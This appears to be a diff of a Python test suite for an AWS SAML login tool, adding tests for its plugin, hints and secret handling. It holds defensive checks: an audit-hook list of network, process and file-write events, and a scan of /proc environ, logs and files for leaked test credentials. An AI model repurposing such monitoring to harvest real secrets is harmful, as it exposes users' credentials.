-    def test_refresher_stops_and_logs_a_refused_renewal(self):
-        self.configure(username="alice", factor="auto")
-        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
-        expires = aws_login.parse_timestamp(self.credentials()["aws_login_expiration"])
-        self.in_process_keyring("old password")
-        self.configure(username="alice", factor="auto", enable_keyring="true")
-        self.idp.expire_sessions()
-        for _ in range(2):
-            lines = []
-            refresher = aws_login.Refresher("default", ADMIN, time.time(),
-                                            expires.timestamp(), log=lines.append)
-            refresher.next_at = time.time()
-            self.assertIsNone(refresher.step())
-            self.assertRegex(lines[-1], r"^cannot renew: the IdP refused the password stored "
-                                        r"in the keyring.*; stopping")
-        self.assertEqual(self.passwords_sent(), [PASSWORD, "old password"])
-        self.assertEqual(len(self.sts.requests), 1)
+    def test_all_lists_the_api_and_the_readme_documents_exactly_it(self):
+        for name in aws_login.__all__:
+            self.assertTrue(hasattr(aws_login, name), name)
+        self.assertEqual(len(set(aws_login.__all__)), len(aws_login.__all__))
+        with open(os.path.join(HERE, "README.md")) as f:
+            readme = f.read()
+        section = readme.split("### From Python (vendoring)")[1].split("\n## ")[0]
+        documented = set()
+        for row in section.splitlines():
+            if row.startswith("| `"):
+                documented.update(re.findall(r"`(\w+)[(`]", row.split(" | ")[0]))
+        self.assertEqual(documented, set(aws_login.__all__))
 
-    def test_a_duo_timeout_or_a_network_failure_marks_nothing(self):
-        self.in_process_keyring(PASSWORD)
-        self.configure(username="alice", factor="push", enable_keyring="true")
-        real = aws_login.http_request
-        aws_login.http_request = lambda *a, **kw: real(*a, **dict(kw, read_timeout=0.5))
-        self.addCleanup(setattr, aws_login, "http_request", real)
-        self.idp.delay = 5          # the push is never approved
-        with self.assertRaises(aws_login.AuthenticationError) as caught:
-            aws_login.get_credentials()
-        self.assertEqual(caught.exception.kind, "timeout")
-        self.idp.stop()
-        with self.assertRaises(aws_login.NetworkError):
-            aws_login.get_credentials()
-        self.assertFalse(os.path.exists(self.refused) and os.listdir(self.refused))
+    def test_login_logout_and_configure_take_a_profile_or_its_name(self):
+        self.configure("api", username="alice", factor="auto", password=PASSWORD)
+        profile = aws_login.read_profile("api")
+        for which in (profile, "api"):
+            credentials, role = aws_login.login(which, aws_login.Terminal(None),
+                                                interactive=False, mode="file")
+            self.assertEqual(self.credentials("api")["aws_access_key_id"],
+                             credentials.access_key_id)
+            self.assertEqual(aws_login.logout(which, forget=True)[0], ["api"])
+            self.assertIsNone(self.credentials("api"))
+        aws_login.configure(profile, values={"region": "eu-west-1"})
+        aws_login.configure("api", values={"duration": "3600"})
+        self.assertEqual((aws_login.read_profile("api").region,
+                          aws_login.read_profile("api").duration), ("eu-west-1", 3600))
 
-
-def _sts_clock_behind(sts, seconds):
-    """STS's clock ``seconds`` behind ours, in its Expiration and its Date header
-    (BaseHTTPRequestHandler.send_response writes date_time_string())."""
-    import email.utils
-
-    def answer(handler):
-        handler.date_time_string = lambda timestamp=None: email.utils.formatdate(
-            time.time() - seconds, usegmt=True)
-        return None         # then the fake answers as usual
-    sts.clock = lambda: time.time() - seconds
-    sts.override = answer
-
-
-class StsLifetimeTest(LoginTestCase):
-    """Credentials that are already expired, or nearly, are a failure with a reason."""
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-
-    def fails_in_one_line(self, run, pattern):
-        self.assert_nothing_written(run, 7)
-        self.assertRegex(run.stderr, "^aws_login: error: " + pattern)
-
-    def test_an_expiration_in_the_past_is_stss_fault_when_the_clocks_agree(self):
-        self.sts.clock = lambda: time.time() - 7200
-        self.fails_in_one_line(self.tool(["login"], terminal=False),
-                               r"STS sent credentials that expire at \S+Z, which is not in "
-                               r"the future \(STS's clock agrees with this machine's\)$")
-        self.assertEqual(len(self.sts.requests), 1)     # not retried within the call
-
-    def test_stss_date_an_hour_and_more_off_names_this_machines_clock(self):
-        _sts_clock_behind(self.sts, 7200)
-        self.fails_in_one_line(self.tool(["login"], terminal=False),
-                               r"this machine's clock is (7199|7200|7201) s ahead of STS's: "
-                               r"by this clock the credentials STS sent, which expire at \S+Z, "
-                               r"have expired; set the clock right \(NTP\)$")
-
-    def test_credential_process_says_it_in_one_line(self):
-        self.write(os.environ["AWS_CONFIG_FILE"], "")
-        self.assertEqual(self.tool(["configure", "--credential-process"],
-                                   terminal=False).code, 0)
-        _sts_clock_behind(self.sts, 3 * 3600)
-        run = self.tool(["credential-process"], terminal=False)
-        self.assertEqual((run.code, run.stdout), (7, ""), run)
-        self.assertRegex(run.stderr, r"^aws_login: error: this machine's clock is \d+ s "
-                                     r"ahead of STS's: [^\n]*\n$")
-
-    def test_a_chained_role_is_checked_against_the_saml_answers_date(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD,
-                       chain_role_arn=READONLY)
-        _sts_clock_behind(self.sts, 2 * 3600)
-        self.sts.clock = lambda: time.time() - (
-            2 * 3600 if self.sts.requests[-1]["form"].get("Action") == "AssumeRole" else 0)
-        self.fails_in_one_line(self.tool(["login"], terminal=False),
-                               r"this machine's clock is \d+ s ahead of STS's")
-        self.assertEqual([r["form"].get("Action") for r in self.sts.requests],
-                         ["AssumeRoleWithSAML", "AssumeRole"])
-
-    def test_lifetime_counts_from_the_request_not_the_answer(self):
-        check = aws_login.check_lifetime
-        sent = 1000000000.0
-        ok = _fake_credentials()
-        ok.expires_at = aws_login._utc(sent + aws_login.MIN_LIFETIME)
-        self.assertIs(check(ok, sent, now=sent + aws_login.MIN_LIFETIME - 0.5), ok)
-        with self.assertRaisesRegex(aws_login.STSError, r"which is not in the future$"):
-            check(ok, sent, now=sent + aws_login.MIN_LIFETIME)
-        short = _fake_credentials()
-        short.expires_at = aws_login._utc(sent + aws_login.MIN_LIFETIME - 1)
-        with self.assertRaisesRegex(aws_login.STSError, r", %d s after they were asked for "
-                                    r"\(%d s at least" % (aws_login.MIN_LIFETIME - 1,
-                                                          aws_login.MIN_LIFETIME)) as caught:
-            check(short, sent, now=sent + 0.1)
-        self.assertTrue(caught.exception.transient)
-        now = sent + aws_login.MIN_LIFETIME
-        for sts_date, words in ((now - 301, "clock is 301 s ahead of STS's"),
-                                (now + 400, "clock is 400 s behind STS's"),
-                                (now - 299, "not in the future .STS's clock agrees")):
-            with self.assertRaisesRegex(aws_login.STSError, words):
-                check(ok, sent, sts_date, now=now)
-        self.assertEqual(aws_login._http_date("Sun, 06 Nov 1994 08:49:37 GMT"), 784111777.0)
-        self.assertEqual(aws_login._http_date("Sunday, 06-Nov-94 08:49:37 GMT"), 784111777.0)
-        self.assertEqual(aws_login._http_date("Sun Nov  6 08:49:37 1994"), 784111777.0)
-        for garbage in (None, "", "yesterday", "Sun, 06 Nov 99999999999 08:49:37 GMT"):
-            aws_login._http_date(garbage)       # None or a number, never an exception
+    def test_import_from_elsewhere_writes_opens_and_starts_nothing(self):
+        probe = (
+            "import os, sys\n"
+            "events = []\n"
+            "if hasattr(sys, 'addaudithook'):\n"
+            "    def hook(event, args):\n"
+            "        if event in ('socket.connect', 'socket.bind', 'subprocess.Popen', "
+            "'os.fork', 'os.exec', 'os.posix_spawn', 'os.system', 'os.mkdir', 'os.remove'):\n"
+            "            events.append(event)\n"
+            "        elif event == 'open' and ((args[1] and any(c in str(args[1]) for c in 'wax+'))"
+            " or (args[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):\n"
+            "            events.append('open for writing: %%r' %% (args[0],))\n"
+            "    sys.addaudithook(hook)\n"
+            "sys.path.insert(0, %r)\n"
+            "import aws_login\n"
+            "print(events)\n" % HERE)
+        where = tempfile.mkdtemp(dir=self.home)
+        before = sorted(os.walk(self.home))
+        out = subprocess.check_output([sys.executable, "-c", probe], cwd=where,
+                                      env=dict(os.environ, PYTHONDONTWRITEBYTECODE="1"))
+        self.assertEqual(out.strip(), b"[]")
+        self.assertEqual(sorted(os.walk(self.home)), before)
 
 
-class RefresherLifetimeTest(LoginTestCase):
-    """The refresher backs off from credentials it cannot use, and never spins."""
-    SLOW = True         # waits on real time: the runner starts it first
+# ---------------------------------------------------------------------------
+# Command line
+# ---------------------------------------------------------------------------
 
-    setUp = RefresherStepTest.setUp     # logged in; a Refresher on the test's clock
+class CommandLineTest(LoginTestCase):
+    """The command line itself: its help and the profile names it refuses."""
 
-    def run_for(self, seconds, steps=20):
-        """Step the refresher through ``seconds`` of its clock (at most ``steps`` wake-ups)."""
-        end = self.now[0] + seconds
-        for _ in range(steps):
-            delay = self.refresher.step()
-            if delay is None or self.now[0] + delay >= end:
-                return
-            self.now[0] += delay
+    def test_default_in_capitals_is_reserved(self):
+        run = self.tool(["--profile", "DEFAULT", "configure", "--username", "x"], terminal=False)
+        self.assertEqual(run.code, 2, run)
+        self.assertIn("reserved", run.stderr)
 
-    def test_an_expired_answer_is_a_failure_with_backoff(self):
-        first_key = self.credentials()["aws_access_key_id"]
-        self.sts.clock = lambda: time.time() - 7200
-        self.now[0] = self.refresher.next_at
-        self.run_for(10)
-        self.assertEqual(len(self.sts.requests), 2)         # the login's and one renewal
-        self.assertRegex(self.lines[-1], r"^renewal failed \(STS sent credentials that expire "
-                                         r"at \S+Z, which is not in the future.*\); trying "
-                                         r"again in 10s$")
-        self.assertEqual(self.credentials()["aws_access_key_id"], first_key)
-        self.sts.clock = time.time
-        self.run_for(30)
-        self.assertTrue(self.lines[-1].startswith("renewed"), self.lines)
-        self.assertEqual(self.refresher.failures, 0)
+    def test_help_lists_the_commands(self):
+        run = self.tool(["--help"], terminal=False)
+        self.assertEqual(run.code, 0)
+        for command in ("configure", "login", "logout", "credential-process", "status"):
+            self.assertIn(command, run.stdout)
 
-    def test_renewals_keep_a_minimum_interval_whatever_renew_says(self):
-        now = self.now[0] = self.refresher.next_at
-        self.refresher.renew = lambda: now - 100        # as if nothing checked the answer
-        self.assertGreaterEqual(self.refresher.step(), aws_login.MIN_RENEW_INTERVAL)
-        self.assertEqual(self.refresher.next_at, now + aws_login.MIN_RENEW_INTERVAL)
 
-        def fails():
-            raise aws_login.AwsLoginError("down", transient=True)
-        self.refresher.renew = fails
-        self.now[0] = self.refresher.next_at
-        self.refresher.expires_at = self.now[0] + 0.5       # the old ones nearly expired
-        self.assertGreaterEqual(self.refresher.step(), aws_login.MIN_RENEW_INTERVAL)
+class HintTest(HomeTestCase):
+    """Every hint names the command as the user ran it, with the same prefix."""
 
-    def test_the_forked_refresher_makes_few_calls_against_such_an_sts(self):
-        self.sts.clock = lambda: time.time() - 7200
-        log = os.path.join(self.home, ".aws-login", "log", "default.log")
-        now = time.time()
-        code = ("import sys; sys.path.insert(0, %r); import aws_login; "
-                "aws_login.start_refresher('default', %r, %r, %r)" % (HERE, ADMIN, now - 100,
-                                                                     now + 50))
-        subprocess.check_call([sys.executable, "-c", code], env=dict(os.environ))
-        self.assertTrue(_wait_for(lambda: len(self.sts.requests) > 3 or (
-            os.path.exists(log) and "renewal failed" in self.read(log)), 30))
-        time.sleep(3)           # a spinning refresher renews every few hundred ms
-        self.assertLessEqual(len(self.sts.requests), 3, self.read(log))     # login + 1, or 2
-        self.assertIn("which is not in the future", self.read(log))
-        self.assertEqual(self.tool(["logout"], terminal=False).code, 0)
+    def assert_one_error(self, run, code, hint):
+        self.assertEqual(run.code, code, run)
+        self.assertEqual(len(run.stderr.splitlines()), 1, run)
+        self.assertTrue(run.stderr.startswith("aws_login: error: "), run)
+        self.assertIn(hint, run.stderr)
+        self.assertNotIn("  ", run.stderr)
+
+    def test_from_the_file(self):
+        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False)
+        self.assert_one_error(run, 3, "run `python3 %s --profile prod configure`" % SCRIPT)
+        run = run_tool(["whoami"], env=dict(os.environ), terminal=False)
+        self.assert_one_error(run, 10, "not logged in to profile default: run `python3 %s "
+                                       "login`" % SCRIPT)
+
+    def test_from_the_installed_command(self):
+        bin_dir = os.path.join(self.home, "bin")
+        command = os.path.join(bin_dir, "aws-login")
+        # what pip's console-script wrapper does
+        self.write(command, "#!%s\nimport sys\nsys.path.insert(0, %r)\nfrom aws_login import "
+                   "main\nsys.exit(main())\n" % (sys.executable, HERE), mode=0o755)
+        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False,
+                       argv_prefix=[command])
+        self.assert_one_error(run, 3, "run `aws-login --profile prod configure`")
+        run = run_tool(["--help"], env=dict(os.environ), terminal=False, argv_prefix=[command])
+        self.assertTrue(run.stdout.startswith("usage: aws-login "), run)
+
+    def test_piped_into_python(self):
+        with open(SCRIPT, "rb") as f:
+            source = f.read()
+        run = run_tool(["--profile", "prod", "login"], env=dict(os.environ), terminal=False,
+                       stdin=source, argv_prefix=[sys.executable, "-"])
+        self.assert_one_error(run, 3, "save this script as aws_login.py and run `python3 "
+                                      "aws_login.py --profile prod configure`, or pipe it "
+                                      "again to `python3 - --profile prod configure`")
+        run = run_tool(["login"], env=dict(os.environ), terminal=False, stdin=source,
+                       argv_prefix=[sys.executable, "-"])
+        self.assert_one_error(run, 3, "`python3 aws_login.py configure`")
 
 
 class StatusTest(LoginTestCase):
@@ -7484,6 +7219,306 @@ class StatusTest(LoginTestCase):
         self.assertRegex(text[1], r"^default +file +logged in +Admin +%s .* pid %d " %
                          (ACCOUNT_A, pid))
         self.assertRegex(text[2], r"^idle +file +logged out +- +- +- +- +-$")
+
+
+class SecretsTest(LoginTestCase):
+    """A whole life with --debug; no secret anywhere it should not be."""
+    SLOW = True         # waits on real time: the runner starts it first
+
+    def test_no_secret_leaks(self):
+        self.idp.require_factor = {"passcode"}
+        self.idp.expected_passcode = "987654"
+        self.sts.clock = lambda: time.time() - 3600 + 8
+        self.configure(username="alice", factor="passcode", refresh="true")
+        self.configure("proc", username="alice", factor="passcode", passcode="987654",
+                       password=PASSWORD)
+        outputs = []
+        run = self.tool(["--debug", "login"], [("Password: ", PASSWORD), ("Code: ", "987654")])
+        self.assertEqual(run.code, 0, run)
+        outputs.append(run)
+        pid = int(re.search(r"pid (\d+)", run.stderr).group(1))
+        cookies = list(self.idp.sessions)
+        first = self.credentials()["aws_access_key_id"]
+        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 10))
+        with open("/proc/%d/cmdline" % pid, "rb") as f:
+            proc_text = f.read()
+        with open("/proc/%d/environ" % pid, "rb") as f:
+            proc_text += f.read()
+        outputs.append(self.tool(["--debug", "--profile", "proc", "configure",
+                                  "--credential-process"], terminal=False))
+        outputs.append(self.tool(["--debug", "--profile", "proc", "credential-process"],
+                                 terminal=False))
+        self.assertEqual(outputs[-1].code, 0, outputs[-1])
+        cookies += list(self.idp.sessions)
+        outputs.append(self.tool(["--debug", "logout", "--forget"], terminal=False))
+        outputs.append(self.tool(["--debug", "--profile", "proc", "logout"], terminal=False))
+        secrets = [PASSWORD, "987654", base64.b64encode(("alice:" + PASSWORD).encode()).decode()]
+        secrets += [c["SecretAccessKey"] for c in self.sts.issued]
+        secrets += [c["SessionToken"] for c in self.sts.issued] + cookies
+        self.assertGreaterEqual(len(self.sts.issued), 3)
+        shown = "".join(r.stdout[:0] + r.stderr + r.tty for r in outputs)
+        holders = {os.path.realpath(self.credentials_file), os.path.realpath(self.config_file)}
+        files = {}
+        for directory, _, names in os.walk(self.home):
+            for name in names:
+                path = os.path.realpath(os.path.join(directory, name))
+                if (path in holders or "/cookies/" in path or "/cache/" in path
+                        or "/fake-keyring/" in path or "/pki/" in path):
+                    self.assertEqual(os.stat(path).st_mode & 0o077, 0, path) \
+                        if "/pki/" not in path else None
+                    continue
+                with open(path, "rb") as f:
+                    files[path] = f.read().decode("utf-8", "replace")
+        self.assertTrue(any(p.endswith("default.log") for p in files), sorted(files))
+        for secret in secrets:
+            self.assertNotIn(secret, shown)
+            self.assertNotIn(secret.encode(), proc_text)
+            for path, text in files.items():
+                self.assertNotIn(secret, text, path)
+
+
+# ---------------------------------------------------------------------------
+# The AWS CLI plugin: its hook, and enable, disable, status
+# ---------------------------------------------------------------------------
+
+class AwsCliPluginTest(LoginTestCase):
+    """The hook, with a stand-in for awscli's BasicCommand (the interop suite runs
+    the real AWS CLI v1)."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        fake = type(sys)("awscli.customizations.commands")
+
+        class BasicCommand(object):
+            def __init__(self, session):
+                self._session = session
+        fake.BasicCommand = BasicCommand
+        for name, module in (("awscli", type(sys)("awscli")),
+                             ("awscli.customizations", type(sys)("awscli.customizations")),
+                             ("awscli.customizations.commands", fake)):
+            self.assertNotIn(name, sys.modules)
+            sys.modules[name] = module
+            self.addCleanup(sys.modules.pop, name)
+
+    def test_hook_registers_login_logout_and_configure(self):
+        registered = {}
+
+        class Cli(object):
+            def register(self, event, handler):
+                registered[event] = handler
+        aws_login.awscli_initialize(Cli())
+        main_table, login_table = {}, {}
+        registered["building-command-table.main"](main_table, session="s")
+        registered["building-command-table.login"](login_table, session="s")
+        self.assertEqual(sorted(main_table), ["login", "logout"])
+        self.assertEqual(sorted(login_table), ["configure"])
+        self.configure("plug", username="alice", factor="auto", password=PASSWORD)
+        args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
+        globals_ = type("Globals", (), {"profile": "plug"})()
+        saved = sys.stderr
+        sys.stderr = io.StringIO()
+        try:
+            code = main_table["login"]._run_main(args, globals_)
+        finally:
+            sys.stderr = saved
+        self.assertEqual(code, 0)
+        self.assertEqual(self.credentials("plug")["aws_access_key_id"],
+                         self.sts.issued[-1]["AccessKeyId"])
+
+    def run_main(self, command, args, globals_):
+        saved = sys.stderr
+        sys.stderr = io.StringIO()
+        try:
+            return command._run_main(args, globals_), sys.stderr.getvalue()
+        finally:
+            sys.stderr = saved
+
+    def tables(self):
+        registered = {}
+        aws_login.awscli_initialize(type("Cli", (), {
+            "register": lambda self, event, handler: registered.__setitem__(event, handler)})())
+        main_table, login_table = {}, {}
+        registered["building-command-table.main"](main_table, session="s")
+        registered["building-command-table.login"](login_table, session="s")
+        return main_table, login_table
+
+    def test_the_aws_cli_global_options_reach_the_tool(self):
+        main_table, login_table = self.tables()
+        ca = self.pems["ca"]
+        del os.environ["AWS_CA_BUNDLE"]     # the IdP's CA comes from `aws --ca-bundle` only
+        self.configure("plug", username="alice", factor="auto", password=PASSWORD)
+        login_args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
+        bare = type("Globals", (), {"profile": "plug", "ca_bundle": None, "region": None,
+                                    "verify_ssl": True})()
+        code, err = self.run_main(main_table["login"], login_args, bare)
+        self.assertEqual(code, 8, err)
+        self.assertIn("not trusted", err)
+        with_ca = type("Globals", (), {"profile": "plug", "ca_bundle": ca,
+                                       "region": "eu-west-1", "verify_ssl": True})()
+        code, err = self.run_main(main_table["login"], login_args, with_ca)
+        self.assertEqual(code, 0, err)
+        self.assertEqual(self.credentials("plug")["aws_access_key_id"],
+                         self.sts.issued[-1]["AccessKeyId"])
+        # configure keeps them as the profile's settings, with no prompt
+        names = ("ecp_endpoint_url", "username", "enable_keyring", "factor", "role_arn",
+                 "duration")
+        configure_args = type("Args", (), dict((n, None) for n in names))()
+        unverified = type("Globals", (), {"profile": "plug", "ca_bundle": ca,
+                                          "region": "eu-west-1", "verify_ssl": False})()
+        code, err = self.run_main(login_table["configure"], configure_args, unverified)
+        self.assertEqual(code, 0, err)
+        profile = aws_login.read_profile("plug")
+        self.assertEqual((profile.ca_bundle, profile.region, profile.verify_ssl_certificate),
+                         (ca, "eu-west-1", False))
+        self.assertEqual(aws_login._awscli_global_options("logout", unverified), [])
+        self.assertEqual(aws_login._awscli_global_options("login", unverified),
+                         ["--ca-bundle", ca, "--region", "eu-west-1", "--no-verify-ssl"])
+
+    def test_hints_in_the_plugin_name_aws_login(self):
+        main_table, _ = self.tables()
+        args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
+        code, err = self.run_main(main_table["login"], args,
+                                  type("Globals", (), {"profile": "nowhere"})())
+        self.assertEqual(code, 3)
+        self.assertEqual(err, "aws_login: error: profile 'nowhere' is not configured: run "
+                              "`aws --profile nowhere login configure`\n")
+
+
+class PluginManagementTest(HomeTestCase):
+    """`plugin enable/disable/status` against a stand-in AWS CLI that loads its
+    plugins as the AWS CLI does (an import failure breaks every command), run by
+    the Python of a throwaway venv (the interop suite uses the real AWS CLI v1)."""
+
+    FAKE_AWS = (
+        "import configparser, os, sys\n"
+        "VERSION = %r\n"
+        "parser = configparser.RawConfigParser()\n"
+        "parser.read(os.environ.get('AWS_CONFIG_FILE') or os.path.expanduser('~/.aws/config'))\n"
+        "plugins = dict(parser.items('plugins')) if parser.has_section('plugins') else {}\n"
+        "if VERSION.startswith('2') and 'cli_legacy_plugin_path' in plugins:\n"
+        "    sys.path.append(plugins.pop('cli_legacy_plugin_path'))\n"
+        "plugins.pop('cli_legacy_plugin_path', None)\n"
+        "if os.environ.get('FAKE_AWS_BROKEN'):\n"
+        "    sys.path[:] = [p for p in sys.path if 'site-packages' not in p]\n"
+        "modules = [__import__(m) for m in plugins.values() if m]\n"
+        "if sys.argv[1:] == ['--version']:\n"
+        "    print('aws-cli/%%s Python/3 Linux botocore/1' %% VERSION); sys.exit(0)\n"
+        "if sys.argv[1:] == ['login'] and os.environ.get('AWS_LOGIN_PLUGIN_PROBE'):\n"
+        "    for m in modules:\n"
+        "        if hasattr(m, 'awscli_initialize'):\n"
+        "            print(os.environ['AWS_LOGIN_PLUGIN_PROBE'], m.__file__); sys.exit(0)\n"
+        "print('aws: error: argument command: Invalid choice'); sys.exit(252)\n")
+
+    def setUp(self):
+        HomeTestCase.setUp(self)
+        self.venv = os.path.join(self.home, "venv")
+        subprocess.check_call([sys.executable, "-m", "venv", "--without-pip", self.venv])
+        self.python = os.path.join(self.venv, "bin", "python")
+        self.aws_config = os.environ["AWS_CONFIG_FILE"]
+
+    def fake_aws(self, version="1.45.11", shebang=None):
+        path = os.path.join(self.venv, "bin", "aws")
+        with open(path, "w") as f:
+            f.write((shebang or "#!%s\n" % self.python) + self.FAKE_AWS % version)
+        os.chmod(path, 0o755)
+        return path
+
+    def site_packages(self):
+        out = subprocess.check_output([self.python, "-c", "import sysconfig;print("
+                                       "sysconfig.get_paths()['purelib'])"])
+        return out.decode().strip()
+
+    def plugin(self, *words, **kw):
+        return run_tool(["plugin"] + list(words), env=dict(os.environ, **kw.get("env", {})),
+                        terminal=False)
+
+    CONFIGS = (None, "", "# mine\r\n[default]\r\nregion = eu-west-1\r\n",
+               "[default]\nregion = x", "[plugins]\nlogin = awscli_login\n",
+               "[profile a]\noutput = json\n\n[plugins]\nlogin = awscli_login\n")
+
+    def test_enable_proves_and_disable_restores_the_config_byte_for_byte(self):
+        aws = self.fake_aws()
+        for before in self.CONFIGS:
+            if before is None:
+                if os.path.exists(self.aws_config):
+                    os.remove(self.aws_config)
+            else:
+                self.write(self.aws_config, before)
+            run = self.plugin("enable", "--aws", aws)
+            self.assertEqual(run.code, 0, run)
+            module = os.path.join(self.site_packages(), "aws_login.py")
+            with open(module, "rb") as f, open(SCRIPT, "rb") as g:
+                self.assertEqual(f.read(), g.read())
+            import configparser
+            parser = configparser.RawConfigParser()
+            parser.read(self.aws_config)
+            self.assertEqual(parser.get("plugins", "login"), "aws_login")
+            probe = subprocess.run([aws, "login"], env=dict(os.environ,
+                                                            AWS_LOGIN_PLUGIN_PROBE="x"),
+                                   stdout=subprocess.PIPE)
+            self.assertEqual(probe.stdout.decode().split(), ["x", module])
+            status = self.plugin("status", "--aws", aws)
+            self.assertIn("plugin: on", status.stdout)
+            self.assertIn(module, status.stdout)
+            self.assertNotIn("built-in", status.stdout)
+            run = self.plugin("disable", env={"PATH": "/nonexistent"})   # never runs aws
+            self.assertEqual(run.code, 0, run)
+            if before is None:
+                self.assertFalse(os.path.exists(self.aws_config))
+            else:
+                self.assertEqual(self.read(self.aws_config), before, repr(before))
+            self.assertFalse(os.path.exists(module))
+            self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login",
+                                                         "plugin.json")))
+            self.assertIn("plugin: off", self.plugin("status", "--aws", aws).stdout)
+
+    def test_an_aws_cli_that_cannot_load_it_is_left_working(self):
+        aws = self.fake_aws()
+        before = "[default]\nregion = eu-west-1\n"
+        self.write(self.aws_config, before)
+        run = self.plugin("enable", "--aws", aws, env={"FAKE_AWS_BROKEN": "1"})
+        self.assertEqual(run.code, 3, run)
+        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
+        self.assertIn("undone", run.stderr)
+        self.assertNotIn("Traceback", run.stderr)
+        self.assertEqual(self.read(self.aws_config), before)
+        self.assertFalse(os.path.exists(os.path.join(self.site_packages(), "aws_login.py")))
+        done = subprocess.run([aws, "--version"], env=dict(os.environ, FAKE_AWS_BROKEN="1"),
+                              stdout=subprocess.PIPE)
+        self.assertEqual(done.returncode, 0)
+
+    def test_aws_cli_v2_gets_a_plugin_path_and_a_warning_of_its_own_login(self):
+        aws = self.fake_aws(version="2.33.1")
+        run = self.plugin("enable", "--aws", aws)
+        self.assertEqual(run.code, 0, run)
+        folder = os.path.join(self.home, ".aws-login", "plugin")
+        self.assertTrue(os.path.isfile(os.path.join(folder, "aws_login.py")))
+        import configparser
+        parser = configparser.RawConfigParser()
+        parser.read(self.aws_config)
+        self.assertEqual(parser.get("plugins", "cli_legacy_plugin_path"), folder)
+        status = self.plugin("status", "--aws", aws)
+        self.assertIn("built-in `aws login`", status.stdout)
+        self.assertEqual(self.plugin("disable").code, 0)
+        self.assertFalse(os.path.exists(self.aws_config))
+
+    def test_a_manual_plugin_line_is_removed_without_a_record(self):
+        self.write(self.aws_config, "[default]\nregion = x\n\n[plugins]\nlogin = aws_login\n")
+        run = self.plugin("disable")
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("removed", run.stderr.lower())
+        self.assertEqual(self.read(self.aws_config), "[default]\nregion = x\n\n[plugins]\n")
+
+    def test_the_python_of_an_aws_script_is_found(self):
+        py = self.python
+        for shebang in ("#!%s\n" % py, "#!/usr/bin/env %s\n" % py,
+                        "#!/bin/sh\n'''exec' \"%s\" \"$0\" \"$@\"\n' '''\n" % py):
+            aws = self.fake_aws(shebang=shebang)
+            self.assertEqual(aws_login._cli_python(aws), py, shebang)
+        aws = self.fake_aws(shebang="#!/bin/bash\nexec something\n")
+        with self.assertRaises(aws_login.ConfigError) as caught:
+            aws_login._cli_python(aws)
+        self.assertIn("--aws", str(caught.exception))
 
 
 # ---------------------------------------------------------------------------
